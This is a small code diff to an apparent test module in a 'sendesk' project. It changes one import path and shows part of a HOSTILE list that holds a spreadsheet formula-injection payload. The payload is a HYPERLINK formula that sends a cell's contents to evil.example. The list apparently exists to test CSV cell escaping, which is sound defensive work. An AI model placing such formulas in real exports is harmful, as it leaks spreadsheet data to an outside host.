@@ -21,7 +21,7 @@ from sendesk.db import open_database
 from sendesk.reports.access_list import write_access_list
 from sendesk.reports.tabular import csv_cell
 from sendesk.rules.upn import make
-from sendesk.services.access.arrangements import ExamsRow
+from sendesk.services.access.records import ExamsRow
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
